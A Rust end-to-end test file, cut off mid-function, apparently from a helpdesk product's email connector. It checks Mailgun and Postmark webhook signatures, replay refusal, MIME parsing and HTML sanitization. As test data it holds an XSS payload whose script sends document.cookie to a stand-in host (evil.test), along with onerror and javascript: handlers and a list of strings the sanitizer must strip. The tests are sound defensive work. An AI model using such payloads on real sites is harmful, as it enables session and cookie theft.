//! The e-mail connector's provider mode end to end (issue 12): the real binary,
//! the real `email` component installed twice in one server — `email-mailgun`
//! (provider `mailgun`) and `email-postmark` (provider `postmark`) — and
//! stand-ins for both sending APIs that check the credentials and record every
//! request (`switchboard_e2e::mailproviders`).
//!
//! - Mailgun inbound: signed postings, whole MIME (`body-mime`, the route URL
//!   ending in `mime`) and parsed fields (multipart with files and an inline
//!   image, or URL-encoded); a duplicate stored once; forged, stale, future and
//!   unsigned postings refused with nothing stored; a retried posting (the same
//!   token and content) accepted and stored once, while its signature on other
//!   content is refused as replayed; hostile postings (a 200 kB
//!   script-laden HTML body, broken MIME, garbage, 10 000 header fields, a
//!   broken form) stored safely or refused with a clear error, never a 500.
//! - Postmark inbound: JSON with the Basic credentials of the webhook URL, Cc,
//!   files and an inline `ContentID` image; wrong or missing credentials
//!   refused with nothing stored.
//! - Replies (with copies and files) through each API with the right auth and
//!   every threading header; the customer's answer joins the conversation by
//!   `In-Reply-To` (Postmark) or by the plus-addressed reply address (Mailgun),
//!   even after it was resolved and the reopen window passed.
//! - A provider answering 500 (and 429) first: retried, accepted once. A key
//!   revoked at the provider: a dead letter with a readable reason. Postmark
//!   bounces: a hard one fails the reply with the reason shown and makes no
//!   conversation; soft, auto-reply and unsubscribe records fail nothing.
//! - Ignored until the connector is fixed: 10 000 nested MIME parts exceed the
//!   component's memory limit (a 500), see the last test.

use std::time::Duration;

use base64::Engine as _;
use serde_json::{Value, json};
use switchboard_e2e::mail::header;
use switchboard_e2e::mailproviders::*;
use switchboard_e2e::meta::PNG;
use switchboard_e2e::*;

/// The Mailgun mailbox.
const SUPPORT: &str = "support@example.com";
/// The Postmark mailbox.
const BILLING: &str = "billing@example.net";
const WAIT: Duration = Duration::from_secs(20);
/// A fake PDF: what the host sniffs as `application/pdf`.
const PDF: &[u8] =
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

fn now_secs() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Base64 in 76-character lines, as MIME writes it.
fn b64_lines(bytes: &[u8]) -> String {
    b64(bytes)
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect::<Vec<_>>()
        .join("\r\n")
}

struct Env {
    server: Server,
    mailgun: FakeMailgun,
    postmark: FakePostmark,
    _twilio: FakeTwilio,
}

async fn install(server: &Server, id: &str, config: Value, allow: &str) {
    let path = plugin_dist().join("email");
    let (status, body) = server
        .post(
            "/api/v1/plugins",
            json!({"path": path, "config": config, "allow_hosts": [allow], "id": id}),
        )
        .await;
    assert_eq!(status, 201, "installing {id}: {body}");
    let text = body.to_string();
    for secret in [
        MAILGUN_API_KEY,
        MAILGUN_SIGNING_KEY,
        POSTMARK_SERVER_TOKEN,
        POSTMARK_WEBHOOK_PASSWORD,
    ] {
        assert!(!text.contains(secret), "secrets never come back: {body}");
    }
}

/// A server with the connector installed twice, each pointed at its stand-in.
/// The reopen window is one second, so only threading can put a late answer
/// into a resolved conversation; retries are 100 ms apart.
async fn start() -> Env {
    let twilio = FakeTwilio::start().await;
    let mailgun = FakeMailgun::start().await;
    let postmark = FakePostmark::start().await;
    let server = Server::start(
        Options::env(&[
            ("SWITCHBOARD_OUTBOX_RETRY_BASE_MS", "100"),
            ("SWITCHBOARD_REOPEN_WINDOW_SECS", "1"),
        ]),
        &twilio,
    )
    .await;
    install(
        &server,
        "email-mailgun",
        json!({
            "address": SUPPORT,
            "display_name": "Example Support",
            "provider": "mailgun",
            "mailgun_signing_key": MAILGUN_SIGNING_KEY,
            "mailgun_api_key": MAILGUN_API_KEY,
            "mailgun_domain": MAILGUN_DOMAIN,
            "mailgun_api_base": mailgun.base,
        }),
        &mailgun.base,
    )
    .await;
    install(
        &server,
        "email-postmark",
        json!({
            "address": BILLING,
            "display_name": "Example Billing",
            "provider": "postmark",
            "postmark_server_token": POSTMARK_SERVER_TOKEN,
            "postmark_webhook_user": POSTMARK_WEBHOOK_USER,
            "postmark_webhook_password": POSTMARK_WEBHOOK_PASSWORD,
            "postmark_api_base": postmark.base,
        }),
        &postmark.base,
    )
    .await;
    Env {
        server,
        mailgun,
        postmark,
        _twilio: twilio,
    }
}

/// Posts a Mailgun route's form to `/hooks/email-mailgun/{path}`.
async fn mailgun_post(server: &Server, path: &str, fields: &[FormField]) -> (u16, String) {
    let (content_type, body) = multipart(fields);
    mailgun_raw(server, path, &content_type, body).await
}

async fn mailgun_raw(
    server: &Server,
    path: &str,
    content_type: &str,
    body: Vec<u8>,
) -> (u16, String) {
    let r = server
        .http
        .post(format!("{}/hooks/email-mailgun/{path}", server.base))
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.text().await.unwrap_or_default())
}

/// Posts a Postmark webhook, with `credentials` in the URL as Postmark is set
/// up (`http://user:password@host/hooks/…`), or none.
async fn postmark_post(
    server: &Server,
    credentials: Option<(&str, &str)>,
    body: &Value,
) -> (u16, String) {
    let url = match credentials {
        Some((user, password)) => format!(
            "http://{user}:{password}@{}/hooks/email-postmark/postmark",
            server.base.trim_start_matches("http://")
        ),
        None => format!("{}/hooks/email-postmark/postmark", server.base),
    };
    let r = server
        .http
        .post(url)
        .header("content-type", "application/json")
        .json(body)
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.text().await.unwrap_or_default())
}

async fn postmark_ok(server: &Server, body: &Value) -> (u16, String) {
    postmark_post(
        server,
        Some((POSTMARK_WEBHOOK_USER, POSTMARK_WEBHOOK_PASSWORD)),
        body,
    )
    .await
}

async fn timeline(server: &Server, contact_id: &str) -> Vec<Value> {
    let (status, v) = server
        .get(&format!("/api/v1/contacts/{contact_id}/timeline"))
        .await;
    assert_eq!(status, 200, "{v}");
    v["events"].as_array().unwrap().clone()
}

fn messages_in(events: &[Value]) -> Vec<Value> {
    events
        .iter()
        .filter(|e| e["kind"] == "message" && e["direction"] == "in")
        .cloned()
        .collect()
}

/// The contact of `address` and its one inbound e-mail.
async fn stored_mail(server: &Server, address: &str, provider_id: &str) -> (Value, Value) {
    let contact = server
        .contact_by(&format!("email:{address}"))
        .await
        .unwrap_or_else(|| panic!("a contact for {address}; log:\n{}", server.log()));
    let events = timeline(server, contact["id"].as_str().unwrap()).await;
    let event = events
        .iter()
        .find(|e| e["provider_id"] == provider_id)
        .unwrap_or_else(|| panic!("{provider_id} on the timeline: {events:#?}"))
        .clone();
    (contact, event)
}

/// The conversation (with its timeline's `email` views).
async fn conversation(server: &Server, id: &str) -> Value {
    let (status, v) = server.get(&format!("/api/v1/conversations/{id}")).await;
    assert_eq!(status, 200, "{v}");
    v
}

fn in_conversation(conversation: &Value, event_id: &str) -> Value {
    conversation["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"] == event_id)
        .unwrap_or_else(|| panic!("{event_id} in {conversation:#}"))
        .clone()
}

async fn reply(server: &Server, conversation: &str, body: Value) -> String {
    let (status, v) = server
        .post(
            &format!("/api/v1/conversations/{conversation}/messages"),
            body,
        )
        .await;
    assert_eq!(status, 202, "{v}");
    v["event"]["id"].as_str().unwrap().to_string()
}

/// The outbox row of `event_id` once it is `status`.
async fn outbox_row(server: &Server, event_id: &str, status: &str) -> Value {
    let found = server
        .eventually(WAIT, || async {
            let (_, rows) = server.get("/api/v1/outbox").await;
            rows["outbox"]
                .as_array()?
                .iter()
                .find(|r| r["event_id"] == event_id && r["status"] == status)
                .cloned()
        })
        .await;
    match found {
        Some(row) => row,
        None => {
            let (_, rows) = server.get("/api/v1/outbox").await;
            panic!(
                "outbox row of {event_id} never `{status}`: {rows:#}\nlog:\n{}",
                server.log()
            )
        }
    }
}

/// Waits for `event_id`'s delivery status on the contact's timeline.
async fn delivery(server: &Server, contact_id: &str, event_id: &str, status: &str) -> Value {
    server
        .eventually(WAIT, || async {
            timeline(server, contact_id)
                .await
                .into_iter()
                .find(|e| e["id"] == event_id && e["delivery_status"] == status)
        })
        .await
        .unwrap_or_else(|| panic!("{event_id} never {status}; log:\n{}", server.log()))
}

async fn status_of(server: &Server, conversation_id: &str) -> String {
    conversation(server, conversation_id).await["status"]
        .as_str()
        .unwrap()
        .to_string()
}

async fn resolve(server: &Server, conversation_id: &str) {
    let (status, v) = server
        .call(
            &server.token,
            "PUT",
            &format!("/api/v1/conversations/{conversation_id}/status"),
            json!({"status": "resolved"}),
        )
        .await;
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["status"], "resolved", "{v}");
}

async fn conversation_count(server: &Server) -> usize {
    let (status, v) = server.get("/api/v1/conversations?limit=1000").await;
    assert_eq!(status, 200, "{v}");
    v["conversations"].as_array().unwrap().len()
}

async fn agent_name(server: &Server) -> String {
    let (status, me) = server.get("/api/v1/auth/me").await;
    assert_eq!(status, 200, "{me}");
    me["name"].as_str().unwrap().to_string()
}

/// The customer's first mail as Mailgun's store-and-notify / `mime` route posts
/// it: text and HTML, an inline photo the HTML shows by `cid:`, a PDF.
fn damaged_order_mime() -> String {
    format!(
        "Received: from mail.example.org by mxa.mailgun.org\r\n\
         From: \"Jane Doe\" <jane@example.org>\r\n\
         To: Example Support <{SUPPORT}>\r\n\
         Cc: Tom Doe <tom@example.org>\r\n\
         Subject: Order 1042 arrived damaged\r\n\
         Date: Mon, 07 Dec 2026 09:30:00 +0000\r\n\
         Message-ID: <order-1042-b@mail.example.org>\r\n\
         References: <order-1042-a@mail.example.org>\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"outer\"\r\n\
         \r\n\
         --outer\r\n\
         Content-Type: multipart/related; boundary=\"rel\"\r\n\
         \r\n\
         --rel\r\n\
         Content-Type: multipart/alternative; boundary=\"alt\"\r\n\
         \r\n\
         --alt\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\
         \r\n\
         The box was crushed. Photo attached.\r\n\
         --alt\r\n\
         Content-Type: text/html; charset=utf-8\r\n\
         \r\n\
         <p>The box was <b>crushed</b>.</p><p><img src=\"cid:photo1@mail.example.org\" alt=\"photo\"></p>\r\n\
         --alt--\r\n\
         --rel\r\n\
         Content-Type: image/png; name=\"photo.png\"\r\n\
         Content-ID: <photo1@mail.example.org>\r\n\
         Content-Disposition: inline; filename=\"photo.png\"\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {}\r\n\
         --rel--\r\n\
         --outer\r\n\
         Content-Type: application/pdf; name=\"invoice-1042.pdf\"\r\n\
         Content-Disposition: attachment; filename=\"invoice-1042.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\
         \r\n\
         {}\r\n\
         --outer--\r\n",
        b64_lines(PNG),
        b64_lines(PDF)
    )
}

/// The fields of Mailgun's `mime` route posting of `mime`.
fn mime_posting(mime: &str, from: &str, sender: &str, subject: &str) -> Vec<FormField> {
    vec![
        FormField::text("recipient", SUPPORT),
        FormField::text("sender", sender),
        FormField::text("from", from),
        FormField::text("subject", subject),
        FormField::text("body-mime", mime),
    ]
}

/// Mailgun's parsed-fields posting (a route without `mime`): a question with
/// a CSV and an inline logo.
fn parsed_posting() -> Vec<FormField> {
    let headers = json!([
        ["Received", "from mail.example.net by mxa.mailgun.org"],
        ["From", "Ray Moss <ray@example.net>"],
        ["To", SUPPORT],
        ["Subject", "Charged twice"],
        ["Date", "Mon, 07 Dec 2026 10:15:00 +0000"],
        ["Message-Id", "<ray-77@mail.example.net>"],
        ["Mime-Version", "1.0"],
        ["Content-Type", "multipart/mixed; boundary=\"gone\""],
    ]);
    vec![
        FormField::text("recipient", SUPPORT),
        FormField::text("sender", "ray@example.net"),
        FormField::text("from", "Ray Moss <ray@example.net>"),
        FormField::text("subject", "Charged twice"),
        FormField::text("body-plain", "Hi,\nwhy was I charged twice?\nRay\n"),
        FormField::text("stripped-text", "Hi,\nwhy was I charged twice?"),
        FormField::text(
            "body-html",
            "<div>Hi,<br>why was I charged <i>twice</i>?</div><img src=\"cid:logo@mail.example.net\">",
        ),
        FormField::text("message-headers", &headers.to_string()),
        FormField::text("attachment-count", "2"),
        FormField::text(
            "content-id-map",
            &json!({"<logo@mail.example.net>": "attachment-2"}).to_string(),
        ),
        FormField::file(
            "attachment-1",
            "statement.csv",
            "text/csv",
            b"date,amount\n2026-12-01,49.00\n2026-12-01,49.00\n",
        ),
        FormField::file("attachment-2", "logo.png", "image/png", PNG),
    ]
}

async fn download(server: &Server, url: &str) -> Vec<u8> {
    let r = server
        .http
        .get(format!("{}{url}", server.base))
        .bearer_auth(&server.token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{url}");
    r.bytes().await.unwrap().to_vec()
}

/// Uploads a file for a reply; its upload id.
async fn upload(server: &Server, filename: &str, content_type: &str, bytes: &[u8]) -> String {
    let r = server
        .http
        .post(format!(
            "{}/api/v1/attachments?filename={filename}",
            server.base
        ))
        .bearer_auth(&server.token)
        .header("content-type", content_type)
        .body(bytes.to_vec())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let v: Value = r.json().await.unwrap();
    v["attachment"]["id"].as_str().unwrap().to_string()
}

fn attachment<'a>(event: &'a Value, filename: &str) -> &'a Value {
    event["attachments"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["filename"] == filename)
        .unwrap_or_else(|| panic!("{filename} among the files: {event:#}"))
}

#[tokio::test]
async fn mailgun_inbound_postings_are_verified_read_and_stored_once() {
    let env = start().await;
    let server = &env.server;
    let mime = damaged_order_mime();
    let posting = mime_posting(
        &mime,
        "Jane Doe <jane@example.org>",
        "jane@example.org",
        "Order 1042 arrived damaged",
    );

    // Forged (another key), stale (20 minutes old), from the future, unsigned:
    // refused, nothing stored.
    let now = now_secs();
    for (what, fields) in [
        (
            "forged",
            mailgun_signed(posting.clone(), "not-the-signing-key", now),
        ),
        (
            "stale",
            mailgun_signed(posting.clone(), MAILGUN_SIGNING_KEY, now - 20 * 60),
        ),
        (
            "future",
            mailgun_signed(posting.clone(), MAILGUN_SIGNING_KEY, now + 20 * 60),
        ),
        ("unsigned", posting.clone()),
    ] {
        let (status, body) = mailgun_post(server, "mailgun/mime", &fields).await;
        assert_eq!(status, 403, "{what}: {body}");
    }
    // A signature moved onto other content (a replayed token and signature
    // with another timestamp) does not verify either.
    let mut moved = mailgun_signed(posting.clone(), MAILGUN_SIGNING_KEY, now);
    for f in moved.iter_mut().filter(|f| f.name == "timestamp") {
        f.data = (now - 1).to_string().into_bytes();
    }
    assert_eq!(mailgun_post(server, "mailgun/mime", &moved).await.0, 403);
    assert!(
        server.contact_by("email:jane@example.org").await.is_none(),
        "nothing stored from refused postings"
    );
    assert_eq!(conversation_count(server).await, 0);

    // Signed and fresh: stored. Mailgun retries (a new token, the same mail):
    // stored once.
    for _ in 0..2 {
        let signed = mailgun_signed(posting.clone(), MAILGUN_SIGNING_KEY, now_secs());
        let (status, body) = mailgun_post(server, "mailgun/mime", &signed).await;
        assert_eq!(status, 200, "{body}\n{}", server.log());
    }
    let (contact, event) =
        stored_mail(server, "jane@example.org", "order-1042-b@mail.example.org").await;
    assert_eq!(contact["display_name"], "Jane Doe", "{contact}");
    let contact_id = contact["id"].as_str().unwrap().to_string();
    assert_eq!(
        messages_in(&timeline(server, &contact_id).await).len(),
        1,
        "the retried posting was stored once"
    );
    assert_eq!(event["channel"], "email");
    assert_eq!(event["plugin_id"], "email-mailgun");
    assert!(
        event["body"]
            .as_str()
            .unwrap()
            .contains("The box was crushed"),
        "{event}"
    );
    let metadata = &event["data"]["metadata"];
    assert_eq!(metadata["subject"], "Order 1042 arrived damaged", "{event}");
    assert_eq!(
        metadata["references"],
        json!(["order-1042-a@mail.example.org"])
    );
    assert!(
        metadata["html_body"]
            .as_str()
            .unwrap()
            .contains("<b>crushed</b>"),
        "{event}"
    );
    assert_eq!(metadata["cc"], json!(["tom@example.org"]), "{event}");
    assert_eq!(event["attachments"].as_array().unwrap().len(), 2, "{event}");
    let photo = attachment(&event, "photo.png");
    assert_eq!(photo["status"], "stored", "{event}");
    assert_eq!(photo["content_type"], "image/png");
    let pdf = attachment(&event, "invoice-1042.pdf");
    assert_eq!(pdf["status"], "stored", "{event}");
    assert_eq!(pdf["content_type"], "application/pdf");
    assert_eq!(download(server, pdf["url"].as_str().unwrap()).await, PDF);
    assert_eq!(download(server, photo["url"].as_str().unwrap()).await, PNG);
    // What the desk shows: the inline photo shown by the HTML, not listed again.
    let conversation_id = event["conversation_id"].as_str().unwrap().to_string();
    let view = in_conversation(
        &conversation(server, &conversation_id).await,
        event["id"].as_str().unwrap(),
    );
    let email = &view["email"];
    assert_eq!(email["subject"], "Order 1042 arrived damaged", "{view:#}");
    assert_eq!(email["cc"].as_array().map(Vec::len), Some(1), "{view:#}");
    assert_eq!(
        email["inline_attachments"].as_array().map(Vec::len),
        Some(1),
        "the cid: photo is inline: {view:#}"
    );
    assert!(
        email["html"].as_str().unwrap().contains("crushed"),
        "{view:#}"
    );

    // Parsed fields (a route without `mime`): files and an inline logo.
    let fields = parsed_posting();
    for _ in 0..2 {
        let signed = mailgun_signed(fields.clone(), MAILGUN_SIGNING_KEY, now_secs());
        let (status, body) = mailgun_post(server, "mailgun", &signed).await;
        assert_eq!(status, 200, "{body}\n{}", server.log());
    }
    let (ray, event) = stored_mail(server, "ray@example.net", "ray-77@mail.example.net").await;
    assert_eq!(ray["display_name"], "Ray Moss", "{ray}");
    assert_eq!(
        messages_in(&timeline(server, ray["id"].as_str().unwrap()).await).len(),
        1,
        "stored once"
    );
    assert_eq!(
        event["data"]["metadata"]["subject"], "Charged twice",
        "{event}"
    );
    assert!(
        event["body"].as_str().unwrap().contains("charged twice"),
        "{event}"
    );
    assert!(
        event["data"]["metadata"]["html_body"]
            .as_str()
            .unwrap()
            .contains("<i>twice</i>"),
        "{event}"
    );
    let csv = attachment(&event, "statement.csv");
    assert_eq!(csv["status"], "stored", "{event}");
    assert_eq!(
        download(server, csv["url"].as_str().unwrap()).await,
        b"date,amount\n2026-12-01,49.00\n2026-12-01,49.00\n"
    );
    let logo = attachment(&event, "logo.png");
    assert_eq!(logo["content_type"], "image/png", "{event}");
    let view = in_conversation(
        &conversation(server, event["conversation_id"].as_str().unwrap()).await,
        event["id"].as_str().unwrap(),
    );
    assert_eq!(
        view["email"]["inline_attachments"].as_array().map(Vec::len),
        Some(1),
        "content-id-map made the logo inline: {view:#}"
    );

    // Without files Mailgun may post the fields URL-encoded: read the same.
    let plain = mailgun_signed(
        vec![
            FormField::text("recipient", SUPPORT),
            FormField::text("sender", "lee@example.com"),
            FormField::text("from", "Lee Park <lee@example.com>"),
            FormField::text("subject", "Opening hours?"),
            FormField::text("body-plain", "When are you open on Sundays?"),
            FormField::text(
                "message-headers",
                &json!([
                    ["From", "Lee Park <lee@example.com>"],
                    ["Message-Id", "<lee-1@example.com>"],
                    ["Subject", "Opening hours?"]
                ])
                .to_string(),
            ),
        ],
        MAILGUN_SIGNING_KEY,
        now_secs(),
    );
    let form: String = form_urlencoded::Serializer::new(String::new())
        .extend_pairs(plain.iter().map(|f| (f.name.clone(), f.value())))
        .finish();
    let (status, body) = mailgun_raw(
        server,
        "mailgun",
        "application/x-www-form-urlencoded",
        form.into_bytes(),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let (lee, event) = stored_mail(server, "lee@example.com", "lee-1@example.com").await;
    assert_eq!(lee["display_name"], "Lee Park");
    assert_eq!(event["data"]["metadata"]["subject"], "Opening hours?");
    assert!(event["body"].as_str().unwrap().contains("Sundays"));

    // Hostile: a 200 kB HTML body full of script, handlers, javascript: links,
    // frames and remote images. Stored, and shown only sanitized.
    let nasty = "<p onclick=\"steal()\">Hello</p>\
        <script>document.location='http://evil.test/?c='+document.cookie</script>\
        <img src=\"x\" onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">click</a>\
        <iframe src=\"http://evil.test/frame\"></iframe>\
        <img src=\"http://evil.test/pixel.png\">\
        <style>body{background:url(http://evil.test/bg.png)}</style>\n";
    let html = nasty.repeat(200 * 1024 / nasty.len() + 1);
    assert!(html.len() > 200 * 1024);
    let hostile = vec![
        FormField::text("recipient", SUPPORT),
        FormField::text("sender", "mallory@evil.test"),
        FormField::text("from", "Mallory <mallory@evil.test>"),
        FormField::text("subject", "<script>alert('subject')</script>"),
        FormField::text("body-plain", "see the html"),
        FormField::text("body-html", &html),
        FormField::text(
            "message-headers",
            &json!([
                ["Message-Id", "<hostile-1@evil.test>"],
                ["From", "Mallory <mallory@evil.test>"]
            ])
            .to_string(),
        ),
    ];
    let (status, body) = mailgun_post(
        server,
        "mailgun",
        &mailgun_signed(hostile, MAILGUN_SIGNING_KEY, now_secs()),
    )
    .await;
    assert_eq!(status, 200, "{body}\n{}", server.log());
    let (_, event) = stored_mail(server, "mallory@evil.test", "hostile-1@evil.test").await;
    let view = in_conversation(
        &conversation(server, event["conversation_id"].as_str().unwrap()).await,
        event["id"].as_str().unwrap(),
    );
    let shown = view["email"]["html"]
        .as_str()
        .unwrap_or_default()
        .to_ascii_lowercase()
        .replace("data-remote-src", "data-held");
    assert!(
        shown.contains("hello"),
        "{}",
        &shown[..shown.len().min(2000)]
    );
    for bad in [
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "src=\"http://evil.test",
    ] {
        assert!(!shown.contains(bad), "`{bad}` in the sanitized HTML");
    }
    assert!(
        view["email"]["remote_images"].as_u64().unwrap() > 0,
        "{}",
        view["email"]["remote_images"]
    );
    let frame = view["email"]["frame_url"]
        .as_str()
        .expect("a frame for the HTML");
    let r = server
        .http
        .get(format!("{}{frame}", server.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        csp.contains("script-src 'none'") || csp.contains("default-src 'none'"),
        "{csp}"
    );
    let document = r.text().await.unwrap().to_ascii_lowercase();
    assert!(
        !document.contains("<script") && !document.contains("onerror"),
        "the frame runs nothing"
    );

    // Broken MIME in body-mime: a boundary never closed, an unknown charset,
    // bad base64, a bad encoded word. Kept with what could be read, and a note.
    let broken = "From: Broken Client <broken@example.org>\r\n\
        To: support@example.com\r\n\
        Subject: =?utf-8?B?!!!not-base64?=\r\n\
        Message-ID: <broken-1@example.org>\r\n\
        MIME-Version: 1.0\r\n\
        Content-Type: multipart/mixed; boundary=\"never\"\r\n\
        \r\n\
        --never\r\n\
        Content-Type: text/plain; charset=x-no-such-charset\r\n\
        \r\n\
        readable words\r\n\
        --never\r\n\
        Content-Type: application/octet-stream; name=\"half.bin\"\r\n\
        Content-Transfer-Encoding: base64\r\n\
        \r\n\
        @@@@ this is not base64 @@@@\r\n\
        --never\r\n\
        Content-Type: multipart/alternative; boundary=\"nested\"\r\n\
        \r\n\
        --nested\r\n\
        Content-Type: text/html\r\n\
        \r\n\
        <p>cut off";
    let (status, body) = mailgun_post(
        server,
        "mailgun/mime",
        &mailgun_signed(
            mime_posting(broken, "broken@example.org", "broken@example.org", "?"),
            MAILGUN_SIGNING_KEY,
            now_secs(),
        ),
    )
    .await;
    assert_eq!(status, 200, "broken MIME is kept with a note: {body}");
    let (_, event) = stored_mail(server, "broken@example.org", "broken-1@example.org").await;
    assert!(
        event["body"].as_str().unwrap().contains("readable words"),
        "{event:#}"
    );
    assert!(
        event["data"]["metadata"]["problem"].as_str().is_some(),
        "agents are told it was read in part: {event:#}"
    );

    // Not MIME at all (binary garbage in body-mime): kept under the unknown
    // sender, with a note (its text is lost: the parser reads it as headers).
    // 10 000 header fields: read as usual.
    let garbage: String = std::iter::once('\u{1}')
        .chain((1..4096u32).map(|i| char::from_u32((i * 7919) % 0xD7FF).unwrap_or('?')))
        .collect();
    let (status, body) = mailgun_post(
        server,
        "mailgun/mime",
        &mailgun_signed(
            mime_posting(&garbage, "x@example.org", "x@example.org", ""),
            MAILGUN_SIGNING_KEY,
            now_secs(),
        ),
    )
    .await;
    assert_eq!(status, 200, "garbage MIME: {body}\n{}", server.log());
    let unknown = server
        .contact_by("email:unknown-sender@invalid")
        .await
        .expect("garbage is kept under the unknown sender");
    let kept = messages_in(&timeline(server, unknown["id"].as_str().unwrap()).await);
    assert_eq!(kept.len(), 1, "{kept:#?}");
    assert!(
        kept[0]["data"]["metadata"]["problem"]
            .as_str()
            .unwrap_or_default()
            .contains("names no sender address"),
        "{:#}",
        kept[0]
    );
    let mut wide = String::from(
        "From: Wide <wide@example.org>\r\nMessage-ID: <wide-1@example.org>\r\nSubject: wide\r\n",
    );
    for i in 0..10_000 {
        wide.push_str(&format!("X-Junk-{i}: {}\r\n", "j".repeat(10)));
    }
    wide.push_str("Precedence: bulk\r\n\r\nwide body\r\n");
    let (status, body) = mailgun_post(
        server,
        "mailgun/mime",
        &mailgun_signed(
            mime_posting(&wide, "wide@example.org", "wide@example.org", "wide"),
            MAILGUN_SIGNING_KEY,
            now_secs(),
        ),
    )
    .await;
    assert_eq!(status, 200, "10 000 headers: {body}");
    let (_, event) = stored_mail(server, "wide@example.org", "wide-1@example.org").await;
    assert_eq!(event["data"]["metadata"]["automatic"], "bulk", "{event:#}");

    // A form that is not one (no closing delimiter): refused as a bad request.
    let (content_type, mut form) = multipart(&mailgun_signed(
        posting.clone(),
        MAILGUN_SIGNING_KEY,
        now_secs(),
    ));
    form.truncate(form.len() - 40);
    let (status, body) = mailgun_raw(server, "mailgun/mime", &content_type, form).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("Mailgun posting"), "a clear error: {body}");

    // Nothing ever reached the provider: inbound needs no API call.
    assert!(env.mailgun.requests().is_empty());
    assert!(
        !server.log().contains(MAILGUN_SIGNING_KEY),
        "the signing key is never logged"
    );
}

/// The fields of a signed posting with `body` as its text, the signature
/// fields taken from `signed` (another posting's `timestamp`, `token` and
/// `signature`).
fn under_signature_of(signed: &[FormField], mut fields: Vec<FormField>) -> Vec<FormField> {
    fields.extend(
        signed
            .iter()
            .filter(|f| ["timestamp", "token", "signature"].contains(&f.name.as_str()))
            .cloned(),
    );
    fields
}

#[tokio::test]
async fn mailgun_retries_of_a_posting_pass_and_its_replayed_signature_does_not() {
    let env = start().await;
    let server = &env.server;
    let mime = |from: &str, message_id: &str, body: &str| {
        format!(
            "From: {from}\r\nTo: {SUPPORT}\r\nSubject: Where is my parcel?\r\n\
             Date: Mon, 07 Dec 2026 11:00:00 +0000\r\nMessage-ID: <{message_id}>\r\n\
             MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
        )
    };
    let posting = mime_posting(
        &mime(
            "Kim Lee <kim@example.org>",
            "parcel-1@example.org",
            "Parcel 77 is late.",
        ),
        "Kim Lee <kim@example.org>",
        "kim@example.org",
        "Where is my parcel?",
    );
    let signed = mailgun_signed(posting, MAILGUN_SIGNING_KEY, now_secs());
    let (status, body) = mailgun_post(server, "mailgun/mime", &signed).await;
    assert_eq!(status, 200, "{body}\n{}", server.log());

    // Mailgun posts it again (its answer was lost, or the host failed): the same
    // token and content, encoded anew (another multipart boundary). Accepted, and
    // the mail is stored once.
    let (status, body) = mailgun_post(server, "mailgun/mime", &signed).await;
    assert_eq!(
        status,
        200,
        "a retry is not a replay: {body}\n{}",
        server.log()
    );
    let (kim, first) = stored_mail(server, "kim@example.org", "parcel-1@example.org").await;
    assert_eq!(
        messages_in(&timeline(server, kim["id"].as_str().unwrap()).await).len(),
        1,
        "the retried posting was stored once"
    );
    let conversations = conversation_count(server).await;

    // Someone who saw the posting puts other mail under its fresh signature: as
    // the same customer (a new message) and as someone else. Refused, nothing
    // stored.
    for (from, sender, message_id, text) in [
        (
            "Kim Lee <kim@example.org>",
            "kim@example.org",
            "parcel-2@example.org",
            "Please send the refund to IBAN XX00 0000 0000.",
        ),
        (
            "Mallory <mallory@example.net>",
            "mallory@example.net",
            "parcel-3@example.net",
            "Hello again",
        ),
    ] {
        let forged = under_signature_of(
            &signed,
            mime_posting(
                &mime(from, message_id, text),
                from,
                sender,
                "Where is my parcel?",
            ),
        );
        let (status, body) = mailgun_post(server, "mailgun/mime", &forged).await;
        assert_eq!(status, 403, "{message_id}: {body}");
        assert!(body.contains("replayed"), "a clear reason: {body}");
    }
    // The same fields with the timestamp, token and signature in another order
    // are the same posting.
    let mut reordered = signed.clone();
    reordered.reverse();
    assert_eq!(
        mailgun_post(server, "mailgun/mime", &reordered).await.0,
        200
    );

    assert!(
        server
            .contact_by("email:mallory@example.net")
            .await
            .is_none()
    );
    let kims = messages_in(&timeline(server, kim["id"].as_str().unwrap()).await);
    assert_eq!(kims.len(), 1, "only the genuine mail: {kims:#?}");
    assert_eq!(kims[0]["id"], first["id"]);
    assert_eq!(conversation_count(server).await, conversations);
    assert!(
        server.log().contains("replayed signature"),
        "the refusal is logged: {}",
        server.log()
    );
}

#[tokio::test]
async fn mailgun_replies_thread_retry_and_die_on_a_revoked_key() {
    let env = start().await;
    let server = &env.server;
    let mime = damaged_order_mime();
    let (status, body) = mailgun_post(
        server,
        "mailgun/mime",
        &mailgun_signed(
            mime_posting(
                &mime,
                "Jane Doe <jane@example.org>",
                "jane@example.org",
                "Order 1042 arrived damaged",
            ),
            MAILGUN_SIGNING_KEY,
            now_secs(),
        ),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let (contact, first) =
        stored_mail(server, "jane@example.org", "order-1042-b@mail.example.org").await;
    let contact_id = contact["id"].as_str().unwrap().to_string();
    let conversation_id = first["conversation_id"].as_str().unwrap().to_string();

    // A reply with a copy and a blind copy.
    let event_id = reply(
        server,
        &conversation_id,
